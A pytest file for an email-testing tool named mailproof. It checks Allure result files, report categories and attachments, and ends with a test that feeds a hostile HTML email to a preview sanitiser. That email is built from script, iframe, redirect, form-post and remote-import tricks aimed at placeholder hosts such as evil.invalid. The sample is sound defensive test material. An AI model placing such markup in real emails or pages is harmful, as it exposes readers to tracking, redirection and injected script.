"""What a flow run writes for Allure, and what real Allure 3 makes of it.

A small QA project (a stand-in shop app over HTTP, the real in-process sink, flows that pass and
flows that fail in each category) runs in a child pytest with ``--alluredir``; the tests read
the result files it wrote, then build the report with the pinned Allure 3 (npm) and read the
categories Allure assigned from the report's embedded data.

The plugin registers mailproof.report.allure_hooks itself once mailproof/pytest_plugin.py lists it; the
child also gets ``-p mailproof.report.allure_hooks`` so this file does not depend on that line.
"""

from __future__ import annotations

import base64
import glob
import json
import os
import re
import subprocess
import sys
from importlib import metadata
from pathlib import Path

import pytest

from mailproof.report import allure_build as report_build, allure_hooks as allure_env

SOURCE_URL = "https://git.example/shop/blob/main/"  # the QA project's mailproof_source_url
CHILD_ARGS = ("-p", "no:locust", "-p", "no:cacheprovider", "-p", "mailproof.report.allure_hooks")

PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

CONFTEST = r'''
import json
import smtplib
import threading
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

LOGO = bytes.fromhex("%(logo)s")
HTML = """<!DOCTYPE html><html><head><style>.total { color: #0a7d32 }
.hero { background: url(https://cdn.invalid/hero.jpg) }</style></head><body>
<img src="cid:logo@shop.invalid" alt="Shop logo"><h1>Hello Ada</h1>
<p id="marker">STATIC MARKUP RENDERED</p><p class="total">Total: 45.00 EUR</p>
<img src="https://tracker.invalid/pixel.gif?u=ada" alt="pixel" width="1" height="1">
<a href="https://shop.invalid/orders/1">View your order</a>
<script>document.getElementById('marker').textContent = 'SCRIPT RAN'</script></body></html>"""


def receipt(to):
    msg = EmailMessage()
    msg["From"] = "shop@shop.invalid"
    msg["To"] = to
    msg["Subject"] = "Your receipt"
    msg.set_content("Hello Ada\nTotal: 45.00 EUR\nView your order: https://shop.invalid/orders/1\n")
    msg.add_alternative(HTML, subtype="html")
    msg.get_payload()[1].add_related(LOGO, "image", "png", cid="<logo@shop.invalid>", filename="logo.png")
    msg.add_attachment(b"sku,qty\nMUG-01,2\n", maintype="text", subtype="csv", filename="receipt.csv")
    return msg


def send(backend, to):
    with smtplib.SMTP(backend.smtp_host, backend.smtp_port, timeout=10) as client:
        client.send_message(receipt(to))


class Shop(BaseHTTPRequestHandler):
    backend = None

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        send(self.backend, body["to"])
        self._answer(202, "queued")

    def do_GET(self):
        self._answer(500, "Traceback (most recent call last):\nKeyError: 'sku'\n")

    def _answer(self, status, text):
        data = text.encode()
        self.send_response(status)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="session")
def mailproof_app_url(mailproof_backend):
    handler = type("BoundShop", (Shop,), {"backend": mailproof_backend})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
'''

FLOWS = r'''
import smtplib
import socket
import time

from conftest import send
from mailproof import flow


@flow(feature="Orders", story="Receipt", severity="critical")
def receipt_arrives(flow):
    address = flow.mailbox.address("order")
    with flow.step("Place the order"):
        response = flow.http.post("/send", json={"to": address})
        assert response.status_code == 202
    with flow.step("Receive the receipt"):
        msg = flow.mailbox.wait_for(to=address, subject="Your receipt", within=5)
        assert "45.00 EUR" in msg.text
    return msg


@flow(feature="Orders", story="Receipt subject")
def receipt_subject_is_exact(flow):
    msg = receipt_arrives(flow)
    assert msg.subject == "Your order receipt"


@flow(feature="Accounts", story="Welcome")
def welcome_never_sent(flow):
    address = flow.mailbox.address("welcome")
    flow.mark()
    flow.mailbox.wait_for(to=address, subject="Welcome", within=0.2)


@flow(feature="Accounts", story="Welcome, a receipt instead")
def welcome_near_miss(flow):
    address = flow.mailbox.address("near")
    flow.http.post("/send", json={"to": address})
    flow.mailbox.wait_for(to=address, subject="Welcome", within=0.5)


@flow(feature="Accounts", story="Slow welcome")
def receipt_is_late(flow, backend):
    address = flow.mailbox.address("slow")
    flow.mailbox.mark(at=time.time() - 30)  # the trigger was 30 s ago: no sleeping needed
    send(backend, address)
    flow.mailbox.wait_for(to=address, within=5)


@flow(feature="Orders", story="No duplicate receipt")
def no_mail_expected(flow):
    address = flow.mailbox.address("quiet")
    flow.http.post("/send", json={"to": address})
    flow.mailbox.expect_no_mail(to=address, within=5)


@flow(feature="Orders", story="Order page")
def app_answers_500(flow):
    response = flow.http.get("/orders/1")
    assert response.status_code == 200, response.text


@flow(feature="Orders", story="App down")
def app_unreachable(flow):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    flow.http.get(f"http://127.0.0.1:{port}/")


@flow(feature="Orders", story="Harness misuse")
def harness_misused(flow):
    flow.mailbox.wait_for(to=flow.mailbox.address("x"), count=0)
'''

TESTS = r'''
import flowsqa


def test_receipt_arrives(run_flow):
    run_flow(flowsqa.receipt_arrives)


def test_receipt_subject_is_exact(run_flow):
    run_flow(flowsqa.receipt_subject_is_exact)


def test_welcome_never_sent(run_flow):
    run_flow(flowsqa.welcome_never_sent)


def test_welcome_near_miss(run_flow):
    run_flow(flowsqa.welcome_near_miss)


def test_receipt_is_late(run_flow, mailproof_backend):
    run_flow(flowsqa.receipt_is_late, backend=mailproof_backend)


def test_no_mail_expected(run_flow):
    run_flow(flowsqa.no_mail_expected)


def test_app_answers_500(run_flow):
    run_flow(flowsqa.app_answers_500)


def test_app_unreachable(run_flow):
    run_flow(flowsqa.app_unreachable)


def test_harness_misused(run_flow):
    run_flow(flowsqa.harness_misused)
'''

EXPECTED = {  # test -> (status, failure label, Allure category)
    "test_receipt_arrives": ("passed", None, None),
    "test_receipt_subject_is_exact": ("failed", "Content mismatch", "Content mismatch"),
    "test_welcome_never_sent": ("failed", "Mail never arrived", "Mail never arrived"),
    "test_welcome_near_miss": ("failed", "Mail never arrived", "Mail never arrived"),
    "test_receipt_is_late": ("failed", "Mail late", "Mail late"),
    "test_no_mail_expected": ("failed", "Unexpected mail", "Unexpected mail"),
    "test_app_answers_500": ("failed", "Application error", "Application error (HTTP 5xx, unreachable)"),
    "test_app_unreachable": ("broken", "Application error", "Application error (HTTP 5xx, unreachable)"),
    "test_harness_misused": ("broken", "Harness error", "Harness error"),
}


@pytest.fixture(autouse=True)
def clean_env(monkeypatch):
    for name in list(os.environ):
        if name.startswith(("MAILPROOF_", "PYTEST_XDIST_", "ALLURE_")) or name == "PYTEST_ADDOPTS":
            monkeypatch.delenv(name)


@pytest.fixture(scope="module")
def qa_run(tmp_path_factory):
    """The QA project run once (two xdist workers) into an alluredir; the results by test name."""
    project = tmp_path_factory.mktemp("qa_project")
    (project / "conftest.py").write_text(CONFTEST % {"logo": PNG_1PX.hex()})
    (project / "flowsqa.py").write_text(FLOWS)
    (project / "test_qa.py").write_text(TESTS)
    (project / "pytest.ini").write_text(f"[pytest]\nmailproof_flow_modules = flowsqa\nmailproof_source_url = {SOURCE_URL}\n")
    alluredir = project / "allure-results"
    proc = subprocess.run([sys.executable, "-m", "pytest", *CHILD_ARGS, "-n", "2", "--alluredir", str(alluredir),
                           "test_qa.py"], cwd=project, capture_output=True, text=True, timeout=180,
                          env={**os.environ, "PYTHONPATH": str(project)})
    assert "8 failed, 1 passed" in proc.stdout, proc.stdout[-4000:] + proc.stderr[-2000:]
    results = {}
    for path in glob.glob(str(alluredir / "*-result.json")):
        data = json.loads(Path(path).read_text())
        results[data["name"]] = data
    assert set(results) == set(EXPECTED), sorted(results)
    return {"project": project, "alluredir": alluredir, "results": results}


def labels(result: dict) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for label in result["labels"]:
        found.setdefault(label["name"], []).append(label["value"])
    return found


def walk_steps(steps: list[dict]):
    for step in steps:
        yield step
        yield from walk_steps(step.get("steps", []))


def test_every_flow_test_has_labels_severity_and_a_link_to_its_flow_source(qa_run):
    """The source is a rootdir-relative path (readable on any machine), linked through mailproof_source_url."""
    flows_file = qa_run["project"] / "flowsqa.py"
    lines = flows_file.read_text().splitlines()
    for name, result in qa_run["results"].items():
        found = labels(result)
        assert found.get("feature") and found.get("story") and found.get("severity"), (name, found)
        assert "flow" in found.get("tag", []), (name, found)
        assert len(found.get("flow source", [])) == 1, (name, found)
        path, _, line = found["flow source"][0].partition(":")
        assert path == "flowsqa.py", (name, found["flow source"])
        flow_name = name.removeprefix("test_")
        start = lines[int(line) - 1:int(line) + 1]  # the decorator, then the def
        assert start[0].startswith("@flow(") and start[1].startswith(f"def {flow_name}("), (name, line, start)
        assert result["links"] == [{"type": "link", "url": f"{SOURCE_URL}flowsqa.py#L{line}",
                                    "name": f"flow source: flowsqa.py:{line}"}], (name, result["links"])
        assert "file://" not in json.dumps(result) and str(qa_run["project"]) not in json.dumps(result["labels"])
    assert labels(qa_run["results"]["test_receipt_arrives"])["severity"] == ["critical"]


FLOW_SOURCE_FLOWS = """
from mailproof import flow


@flow(feature="Checkout", story="Pay")
def pay(flow):
    with flow.step("Nothing to send"):
        pass
"""

FLOW_SOURCE_TESTS = """
import pytest

from shopflows import checkout


@pytest.fixture
def coupon(request):
    request.addfinalizer(lambda: None)
    return "SAVE10"


def test_pay(run_flow, coupon):
    run_flow(checkout.pay)
"""


def test_flow_source_without_a_source_url_is_a_relative_path_and_with_a_template_a_link(pytester, monkeypatch):
    pytester.makeini("[pytest]\nmailproof_flow_modules = shopflows\n")
    pytester.mkpydir("shopflows")
    (pytester.path / "shopflows" / "checkout.py").write_text(FLOW_SOURCE_FLOWS)
    pytester.makepyfile(test_checkout=FLOW_SOURCE_TESTS)
    line = FLOW_SOURCE_FLOWS.splitlines().index('@flow(feature="Checkout", story="Pay")') + 1

    def run(alluredir: Path) -> dict:
        result = pytester.runpytest_subprocess(*CHILD_ARGS, "--alluredir", str(alluredir),
                                               "--app-url", "http://127.0.0.1:9", timeout=120)
        result.assert_outcomes(passed=1)
        (found,) = [json.loads(p.read_text()) for p in alluredir.glob("*-result.json")]
        return found

    plain = run(pytester.path / "plain")
    assert labels(plain)["flow source"] == [f"shopflows/checkout.py:{line}"]
    assert plain.get("links", []) == [], plain["links"]
    # A finalizer registered as a lambda is listed under a name, and passed.
    afters = [a for c in (pytester.path / "plain").glob("*-container.json")
              for a in json.loads(c.read_text()).get("afters", [])]
    assert {(a["name"], a["status"]) for a in afters} >= {("coupon::finalizer", "passed")}, afters

    monkeypatch.setenv("MAILPROOF_SOURCE_URL", "https://bitbucket.example/shop/src/main/{path}#lines-{line}")
    linked = run(pytester.path / "linked")
    assert linked["links"] == [{"type": "link", "url": f"https://bitbucket.example/shop/src/main/shopflows/checkout.py#lines-{line}",
                                "name": f"flow source: shopflows/checkout.py:{line}"}]


def test_flow_source_outside_the_rootdir_is_named_by_its_module(tmp_path):
    from mailproof.flow import run
    from mailproof.report.allure_reporter import flow_source, source_url

    path, line = flow_source(run, tmp_path)
    assert path == "mailproof/flow.py" and line > 1
    assert source_url("", path, line) is None
    assert source_url("https://git.example/r/blob/main", "a b/c.py", 3) == "https://git.example/r/blob/main/a%20b/c.py#L3"


def test_set_up_and_tear_down_list_real_fixtures_only_and_all_passed(qa_run):
    """No ``<lambda>`` (pytest's own finalizer as allure-pytest wraps it) and no entry left without a status."""
    fixtures = []
    for path in qa_run["alluredir"].glob("*-container.json"):
        container = json.loads(path.read_text())
        fixtures += [(kind, f["name"], f.get("status")) for kind in ("befores", "afters") for f in container.get(kind, [])]
    assert fixtures
    assert [f for f in fixtures if "<lambda>" in f[1] or f[2] != "passed"] == [], fixtures
    afters = {name for kind, name, _ in fixtures if kind == "afters"}
    assert {"mailbox::teardown", "flow::teardown", "mailproof_backend::teardown", "mailproof_app_url::teardown"} <= afters
    assert {name for kind, name, _ in fixtures if kind == "befores"} >= {"mailbox", "flow", "run_flow", "mailproof_app_url"}


def test_a_failed_wait_shows_its_message_and_the_flow_line_not_harness_source(qa_run):
    flows = (qa_run["project"] / "flowsqa.py").read_text().splitlines()
    failures = {"test_welcome_never_sent": "MailNotDelivered", "test_welcome_near_miss": "MailNotDelivered",
                "test_receipt_is_late": "MailLate", "test_no_mail_expected": "UnexpectedMail"}
    for name, error in failures.items():
        details = qa_run["results"][name]["statusDetails"]
        trace = details["trace"]
        assert "mailbox.py" not in trace and "def wait_for(" not in trace and "def expect_no_mail(" not in trace, trace
        assert "pytest_plugin.py" not in trace and "mailproof/flow.py" not in trace, trace
        flow_name = name.removeprefix("test_")
        line = next(i for i, text in enumerate(flows, 1) if text.startswith(f"def {flow_name}("))
        waited = next(i for i, text in enumerate(flows[line:], line + 1) if "flow.mailbox.wait_for(" in text
                      or "flow.mailbox.expect_no_mail(" in text)
        assert f"    def {flow_name}(" in trace, trace  # the flow is the last frame, shown in full
        assert f"E       mailproof.errors.{error}: " in trace, trace
        assert trace.rstrip().splitlines()[-1] == f"flowsqa.py:{waited}: {error}", trace
    near = qa_run["results"]["test_welcome_near_miss"]["statusDetails"]
    assert near["message"].startswith("mailproof.errors.MailNotDelivered: no mail to near+")
    assert "1 other mail(s) arrived in that window:" in near["message"], near["message"]
    assert "subject 'Your receipt' does not contain 'Welcome'" in near["message"], near["message"]
    assert "1 other mail(s) arrived in that window:" in near["trace"]  # the E lines: the message again
    # A harness error keeps the harness frames: they are what is wrong.
    assert "mailproof/mailbox.py" in qa_run["results"]["test_harness_misused"]["statusDetails"]["trace"]


def test_failures_fall_into_the_categories_qa_filters_by(qa_run):
    for name, (status, failure, _) in EXPECTED.items():
        result = qa_run["results"][name]
        assert result["status"] == status, (name, result["status"], result.get("statusDetails"))
        assert labels(result).get(allure_env.FAILURE_LABEL) == ([failure] if failure else None), (name, labels(result))
    # Without the label, allurerc.mjs falls back to the exception class at the start of the message.
    message = lambda n: qa_run["results"][n]["statusDetails"]["message"]  # noqa: E731
    assert message("test_welcome_never_sent").startswith("mailproof.errors.MailNotDelivered: no mail")
    assert message("test_receipt_is_late").startswith("mailproof.errors.MailLate: ")
    assert message("test_no_mail_expected").startswith("mailproof.errors.UnexpectedMail: ")
    assert message("test_app_unreachable").startswith("mailproof.http.AppUnreachable: cannot reach http://127.0.0.1:")


def test_a_content_mismatch_in_a_flow_module_shows_a_readable_diff(qa_run):
    details = qa_run["results"]["test_receipt_subject_is_exact"]["statusDetails"]
    assert "assert 'Your receipt' == 'Your order receipt'" in details["message"], details["message"]
    assert "- Your order receipt" in details["trace"] and "+ Your receipt" in details["trace"], details["trace"]


def test_http_calls_are_steps_with_status_and_time_and_a_5xx_step_is_broken(qa_run):
    ok_steps = list(walk_steps(qa_run["results"]["test_receipt_arrives"]["steps"]))
    http = [s for s in ok_steps if s["name"].startswith("HTTP POST")]
    assert len(http) == 1 and re.fullmatch(r"HTTP POST /send -> 202 \(\d+ ms\)", http[0]["name"]), http
    assert http[0]["status"] == "passed"

    failing = list(walk_steps(qa_run["results"]["test_app_answers_500"]["steps"]))
    step = next(s for s in failing if s["name"].startswith("HTTP GET /orders/1 -> 500"))
    assert step["status"] == "broken"
    assert "HTTP 500 from GET /orders/1" in step["statusDetails"]["message"]
    body = next(a for a in step["attachments"] if a["name"] == "Response body (500)")
    assert "KeyError: 'sku'" in (qa_run["alluredir"] / body["source"]).read_text()


def test_every_awaited_email_is_attached_for_a_passing_test(qa_run):
    steps = list(walk_steps(qa_run["results"]["test_receipt_arrives"]["steps"]))
    mail = next(s for s in steps if s["name"].startswith("Received: 'Your receipt'"))
    assert re.search(r"\(\d+ ms after trigger\)$", mail["name"]), mail["name"]
    files = {a["name"]: qa_run["alluredir"] / a["source"] for a in mail["attachments"]}
    assert list(files) == ["Email preview (offline, no scripts)", "Text body", "HTML body", "Headers", "Links (1)",
                           "Attachment logo.png", "Attachment receipt.csv", "Raw message (.eml)"]
    types = {a["name"]: a["type"] for a in mail["attachments"]}
    assert types["Email preview (offline, no scripts)"] == "text/html"
    assert types["HTML body"] == "text/plain" and types["Raw message (.eml)"] == "message/rfc822"

    preview = files["Email preview (offline, no scripts)"].read_text()
    assert "Content-Security-Policy" in preview and "default-src 'none'" in preview
    assert "STATIC MARKUP RENDERED" in preview and "<script" not in preview.lower()
    assert 'src="data:image/png;base64,' in preview  # the cid: logo, inlined
    assert not re.search(r'\ssrc="https?:', preview) and "url(https://cdn.invalid" not in preview
    assert "2 remote references blocked" in preview and "1 script removed" in preview

    assert "<script>" in files["HTML body"].read_text()  # the markup as sent, to read, never rendered
    assert files["Text body"].read_text().startswith("Hello Ada")
    headers = files["Headers"].read_text()
    assert headers.startswith("Envelope-From: shop@shop.invalid\nEnvelope-To: order+") and "Subject: Your receipt" in headers
    assert files["Links (1)"].read_text().startswith("https://shop.invalid/orders/1")
    assert files["Attachment receipt.csv"].read_bytes() == b"sku,qty\nMUG-01,2\n"
    assert files["Attachment logo.png"].read_bytes() == PNG_1PX
    raw = files["Raw message (.eml)"].read_bytes()
    assert raw.startswith(b"From: shop@shop.invalid\r\nTo: order+") and b"Content-Type: multipart/mixed" in raw


def test_a_late_mail_is_attached_and_its_step_failed(qa_run):
    steps = list(walk_steps(qa_run["results"]["test_receipt_is_late"]["steps"]))
    late = next(s for s in steps if s["name"].startswith("LATE: 'Your receipt'"))
    assert late["status"] == "failed" and "arrived 3" in late["statusDetails"]["message"]
    assert any(a["name"] == "Raw message (.eml)" for a in late["attachments"])


def test_environment_properties_are_written_once_by_the_xdist_controller(qa_run):
    alluredir = qa_run["alluredir"]
    assert not list(alluredir.glob(".environment.*")), "a temporary file was left behind"
    props = dict(line.split("=", 1) for line in (alluredir / "environment.properties").read_text().splitlines())
    assert props["mailbox.backend"] == "sink"
    assert props["xdist.workers"] == "2"
    assert props["app.url"].startswith("started by the test session")
    for dist in ("mailproof", "aiosmtpd", "locust", "pytest", "allure-pytest"):
        assert props[f"{dist}.version"] == metadata.version(dist)
    assert props["python.version"].startswith(f"{sys.version_info.major}.{sys.version_info.minor}.")


def test_environment_properties_survive_workers_cleaning_the_alluredir(pytester):
    """--clean-alluredir in xdist workers wipes the folder after the controller's session start."""
    pytester.makepyfile(test_one="def test_one():\n    pass\n")
    alluredir = pytester.path / "results"
    result = pytester.runpytest_subprocess(*CHILD_ARGS, "-n", "2", "--alluredir", str(alluredir),
                                           "--clean-alluredir", "--app-url", "http://127.0.0.1:8080", timeout=120)
    result.assert_outcomes(passed=1)
    props = (alluredir / "environment.properties").read_text()
    assert "app.url=http://127.0.0.1:8080\n" in props


def report_data(index: Path) -> dict[str, object]:
    """The JSON files Allure embeds in a single-file report, by name (attachments left out)."""
    found = {}
    for name, payload in re.findall(r'd\("([^"]+)","([A-Za-z0-9+/=]*)"\)', index.read_text()):
        if name.endswith(".json"):
            found[name] = json.loads(base64.b64decode(payload))
    return found


def test_real_allure_builds_one_offline_file_with_the_categories_and_history(qa_run, tmp_path):
    history = tmp_path / "history.jsonl"
    first = report_build.build(qa_run["alluredir"], tmp_path / "report", history=history)
    index = report_build.build(qa_run["alluredir"], tmp_path / "report", history=history)
    assert index == first and sorted(p.name for p in (tmp_path / "report").iterdir()) == [
        "index.html", "summary.json", "test-results.json"]
    assert len(history.read_text().splitlines()) == 2, "each build appends one history entry"

    page = index.read_text()
    for trace in ("googletagmanager", "gtag(", "google-analytics"):
        assert trace not in page
    assert not re.search(r'<(script|link|img)[^>]+(src|href)="(https?:)?//', page), "the report loads something remote"

    data = report_data(index)
    results = {d["name"]: d for key, d in data.items() if key.startswith("data/test-results/")}
    for name, (_, _, category) in EXPECTED.items():
        got = [c["name"] for c in results[name].get("categories", [])]
        assert got == ([category] if category else []), (name, got)
    # Trends: the second report knows the first run.
    assert len(results["test_receipt_arrives"]["history"]) == 1
    assert len([key for key in data if key.startswith("data/history/")]) == 1
    environment = {e["name"]: e["values"] for e in data["widgets/allure_environment.json"]}
    assert environment["mailbox.backend"] == ["sink"]


def test_preview_neutralises_every_way_an_email_loads_or_runs_something():
    from mailproof.report.preview import PREVIEW_CSP, safe_preview

    hostile = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=https://evil.invalid/">
<meta charset="iso-8859-1"><base href="https://evil.invalid/">
<link rel="stylesheet" href="https://cdn.invalid/a.css">
<style>@import url("https://cdn.invalid/b.css"); .x { background-image: url('https://cdn.invalid/c.png') }
.y { background: url(data:image/png;base64,AAAA) } .z { width: expression(alert(1)) }</style></head>
<body background="https://cdn.invalid/bg.jpg" onload="alert(1)">
<p style="background:url(//cdn.invalid/d.png)">Dear Ada &amp; co,</p>
<img srcset="https://cdn.invalid/e.png 2x" alt="e"><picture><source srcset="https://cdn.invalid/f.webp"></picture>
<video poster="https://cdn.invalid/g.jpg" src="https://cdn.invalid/h.mp4"></video>
<svg><image href="https://cdn.invalid/i.svg"/><use href="#local"/></svg>
<iframe src="https://evil.invalid/frame"></iframe><object data="https://evil.invalid/o"></object>
<form action="https://evil.invalid/post"><button formaction="https://evil.invalid/b">Go</button></form>
<a href="javascript:alert(1)">js</a> <a href="https://shop.invalid/ok" target="_top">ok</a>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<!--[if mso]><img src="https://cdn.invalid/mso.png"><![endif]-->
<script type="module">import("https://evil.invalid/m.js")</script><noscript><img src="https://cdn.invalid/n.png"></noscript>
</body></html>"""
    preview = safe_preview(hostile)
    out = preview.html
    assert out.startswith("<!doctype html><meta charset=\"utf-8\">")
    assert f'content="{PREVIEW_CSP}"' in out
    for gone in ("refresh", "iso-8859-1", "<base", "<link", "@import", "<iframe", "<object", "<script", "<noscript",
                 "onload", "javascript:", "expression(", "mso"):
        assert gone not in out, gone
    # Nothing left that a browser would fetch: every URL attribute and CSS url() is data: or local.
    assert not re.search(r'\s(src|srcset|background|poster|data|action|formaction)="(https?:)?//', out), out
    assert not re.search(r'<(?!a\s)[a-z]+[^>]*\shref="(https?:)?//', out), out  # only links keep a URL
    assert not re.search(r"url\(\s*['\"]?(https?:)?//", out), out
    # Links are inert: no href at all, the target shown as text so QA can still read it.
    assert "href=" not in out and "[https://shop.invalid/ok]" in out
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out and "Dear Ada &amp; co," in out
    # <style> blocks go whole (their selectors could hide or fake the banner); SVG goes whole.
    assert "<style" not in out.split("Offline preview by mailproof")[-1] and "<svg" not in out
    # The script tag, onload, the javascript: URL and the CSS expression are each a removed script.
    assert len(preview.blocked) >= 12 and preview.scripts_removed == 4
    assert out.index("Offline preview by mailproof") > out.index("<body")
